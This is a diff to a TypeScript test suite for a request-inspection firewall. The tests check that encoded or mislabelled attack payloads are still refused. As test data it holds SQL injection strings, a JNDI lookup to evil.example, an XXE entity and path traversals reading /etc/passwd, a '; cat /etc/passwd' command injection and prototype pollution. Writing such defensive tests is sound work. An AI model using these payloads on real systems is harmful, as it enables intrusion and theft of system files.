@@ -11,6 +11,16 @@ const sql = "1' OR '1'='1' -- "
 const lookup = ['$', '{jndi:ldap://evil.example/a}'].join('')
 const attack = JSON.stringify({ name: sql })
 const utf16 = (text: string): Buffer => Buffer.from(text, 'utf16le')
+const utf16be = (text: string): Buffer => utf16(text).swap16()
+const marked = (mark: readonly number[], rest: Buffer): Buffer => Buffer.concat([Buffer.from(mark), rest])
+const [utf8Mark, bigMark, littleMark] = [
+  [0xef, 0xbb, 0xbf],
+  [0xfe, 0xff],
+  [0xff, 0xfe],
+]
+/** What is nearly JSON, with an attack in one member that would be part of a document else. */
+const nearlyJson = (end: string): string =>
+  `{"about":${JSON.stringify('We had bread for breakfast, and it was good of them to bring us some of it.\n'.repeat(40))},"id":"1 UNION SELECT password FROM users"${end}`
 
 suite('CT3: what is inspected is what is read', () => {
   let house: Guarded
@@ -23,6 +33,9 @@ suite('CT3: what is inspected is what is read', () => {
       routes: [
         route('/in/:id'),
         route('/in'),
+        route('/files', { inspection: { injection: 'off', uploads: { types: ['image/*'] } } }),
+        route('/onwards', { forwardAuthorization: true }),
+        route('/allowed', { inspection: { injection: { allow: [{ field: 'body /filter/*' }] } } }),
         route('/schema', { body: { type: 'object', properties: { name: { type: 'string' } } } }),
       ],
     })
@@ -88,6 +101,47 @@ suite('CT3: what is inspected is what is read', () => {
     ['a string in base64', json({ a: Buffer.from(sql).toString('base64') })],
     ['a name that pollutes', json('{"__proto__":{"isAdmin":true}}')],
     ['an external entity', sent('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', 'application/xml')],
+    ['text in UTF-16 that does not say which', sent(utf16be(sql), 'text/plain; charset=utf-16')],
+    [
+      'text with the mark of another charset',
+      sent(marked(bigMark as number[], utf16be(sql)), 'text/plain; charset=utf-16le'),
+    ],
+    [
+      'bytes that are JSON with a mark, and with bytes that are no UTF-8',
+      sent(
+        marked(utf8Mark as number[], Buffer.from(`{"a":"\xff","name":"${sql}"}`, 'latin1')),
+        'application/octet-stream',
+      ),
+    ],
+    ['an image that is XML in UTF-16', sent(marked(littleMark as number[], utf16(`<a>${sql}</a>`)), 'image/png')],
+    ['an image that is XML in UTF-16, without a mark', sent(utf16be(`<a>${sql}</a>`), 'image/png')],
+    ['JSON that calls itself a form', sent(attack, 'application/x-www-form-urlencoded')],
+    ['JSON with a member twice, that calls itself text', sent(nearlyJson(',"a":1,"a":2}'), 'text/plain')],
+    ['JSON with something behind it, that calls itself text', sent(nearlyJson('}x'), 'text/plain')],
+    [
+      'JSON that calls itself a form, with a member twice',
+      sent(nearlyJson(',"a":1,"a":2}'), 'application/x-www-form-urlencoded'),
+    ],
+    ['a string of nearly JSON', json({ payload: nearlyJson(',"a":1,"a":2}') })],
+    [
+      'a form that calls itself text and begins with `&`',
+      sent("&id=1'+UNION+SELECT+password+FROM+users", 'text/plain'),
+    ],
+    ['a file without a name, which is a value to some readers', multipart([{ name: 'a', filename: '', body: sql }])],
+    [
+      'a form of parts that names its charset',
+      multipart([
+        { name: '_charset_', body: 'utf-7' },
+        { name: 'a', body: 'b' },
+      ]),
+    ],
+    [
+      'a form of parts in another charset',
+      sent(
+        '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--b--',
+        'multipart/form-data; boundary=b; charset=utf-7',
+      ),
+    ],
     ['XML in UTF-16', sent(Buffer.concat([Buffer.from([0xff, 0xfe]), utf16(`<a>${sql}</a>`)]), 'application/xml')],
   ]
   for (const [how, init] of bodies)
@@ -108,6 +162,16 @@ suite('CT3: what is inspected is what is read', () => {
     ['a language', '/in', { 'accept-language': "en' OR '1'='1' -- " }],
     ['an address that a proxy would write', '/in', { 'x-forwarded-for': "127.0.0.1' OR '1'='1' -- " }],
     ['another method than the one that is asked', '/in', { 'x-http-method-override': 'DELETE' }],
+    ['a credential that goes on', '/onwards', { authorization: lookup }],
+    ['a credential behind its scheme', '/onwards', { authorization: "Basic x' OR '1'='1' -- " }],
+    ['a key', '/onwards', { 'x-api-key': lookup }],
+    ['a signature', '/in', { signature: lookup }],
+    ['what a signature is over', '/in', { 'signature-input': lookup }],
+    ['a digest', '/in', { 'content-digest': lookup }],
+    ['a field that begins as those of browsers', '/in', { 'sec-any': '1 UNION SELECT password FROM users' }],
+    ['a range', '/in', { range: '../../../../etc/passwd' }],
+    ['an entity tag that is a command', '/in', { 'if-none-match': '; cat /etc/passwd' }],
+    ['a list of types', '/in', { accept: '../../../../etc/passwd' }],
   ]
   for (const [how, path, headers = {}] of heads)
     test(`an attack is refused in ${how}`, async () => {
@@ -128,6 +192,14 @@ suite('CT3: what is inspected is what is read', () => {
           'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36',
         referer: 'https://www.example.com/search?q=O%27Brien+%26+sons&page=2#top',
         traceparent: '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01',
+        authorization:
+          'Digest username="ada", realm="a@b.example", uri="/in", nonce="7ypf/xlj9XXwf", nc=00000001, qop=auth',
+        'signature-input': 'sig1=("@method" "@authority" "content-digest");created=1618884473;keyid="test-key"',
+        signature:
+          'sig1=:d2pmTvmbncD3xQm8E9ZV2828BjQWGgiwAaw5bAkgibUopemLJcWDy/lkbbHAve4cRAtx31Iq786U7it++wgGxbtRxf8Udx7zFZsckzXaJMkA7ChG52eSkFxykJeNqsrWH5S+oxNFlD4dzVuwe8DhTSja8xxbR==:',
+        'content-digest': 'sha-256=:X48E9qOokqqrvdts8nOJRJN3OWDUoyWxBf7kbu9DBPE=:',
+        range: 'bytes=0-499, 1000-1499',
+        accept: 'text/html, application/xml;q=0.9, */*;q=0.8',
       },
     })
     assert.equal(status, 200, text)
@@ -138,6 +210,22 @@ suite('CT3: what is inspected is what is read', () => {
     assert.deepEqual((await house.ask('/in', drawing)).seen?.body, drawing.body)
     const image = sent(Buffer.from([0x89, 0x50, 0x4e, 0x47, 1, 2, 3]), 'image/png')
     assert.deepEqual((await house.ask('/in', image)).seen?.body, image.body)
+  })
+
+  test('what is allowed in one field is refused in every other, wherever it came first', async () => {
+    const where = { $where: 1 }
+    assert.equal((await house.ask('/allowed', json({ filter: where }))).status, 200)
+    assertRefused(await house.ask('/allowed', json({ filter: where, other: where })), 403, 'injection-detected')
+    assertRefused(await house.ask('/allowed?$where=1', json({ filter: where })), 403, 'injection-detected')
+  })
+
+  test('CT7: a part of a form that is a file to some readers is checked as one, also without the name of a file', async () => {
+    const part = (type: string, body = '#!/bin/sh\nls'): RequestInit =>
+      multipart([{ name: 'a', head: `Content-Type: ${type}\r\n`, body }])
+    assertRefused(await house.ask('/files', part('application/octet-stream')), 422, 'upload-refused')
+    assertRefused(await house.ask('/files', part('image/png')), 422, 'upload-refused')
+    for (const type of ['text/plain', 'application/json', 'application/vnd.a+json'])
+      assert.equal((await house.ask('/files', part(type, '{}'))).status, 200, type)
   })
 
   const wires: readonly (readonly [how: string, bytes: string])[] = [
@@ -217,5 +305,7 @@ test('CT3: over HTTP/2 requests are looked into alike', async (context) => {
   assert.match(await ask({ ':method': 'POST', ...type }, attack), /^403 .*injection-detected/)
   assert.match(await ask({ ':method': 'GET', cookie: `a=${encodeURIComponent(sql)}` }), /^403 /)
   assert.match(await ask({ ':path': `/in?q=${encodeURIComponent(sql)}` }), /^403 /)
+  assert.match(await ask({ ':method': 'POST', 'content-type': 'image/png' }, attack), /^422 .*not-inspectable/)
+  assert.match(await ask({ ':method': 'POST', 'content-type': 'image/png' }, '\x89PNG'), /^200 /)
   assert.match(await ask({ ':method': 'POST', ...type }, JSON.stringify({ name: "O'Brien" })), /^200 .*O'Brien/)
 })
